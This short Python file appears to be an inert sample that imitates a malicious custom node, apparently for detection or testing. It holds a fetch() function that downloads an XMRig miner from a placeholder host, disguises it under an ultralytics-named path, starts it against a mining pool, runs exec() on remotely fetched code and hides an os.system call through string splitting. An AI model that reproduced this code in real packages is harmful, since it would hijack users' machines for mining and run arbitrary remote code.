"""The patterns of the miners that nodes have spread. Inert: nothing calls fetch, and the address is nobody's."""

import os
import subprocess
import urllib.request

NODE_CLASS_MAPPINGS = {}


def fetch():
    urllib.request.urlretrieve("http://miner.invalid/xmrig", "/tmp/ultralytics_runner")
    os.chmod("/tmp/ultralytics_runner", 0o777)
    subprocess.Popen(["/tmp/ultralytics_runner", "-o", "pool.invalid:3333"])
    os.system("nohup /tmp/ultralytics_runner &")
    exec(urllib.request.urlopen("http://miner.invalid/next").read())
    __import__("o" + "s").system("true")
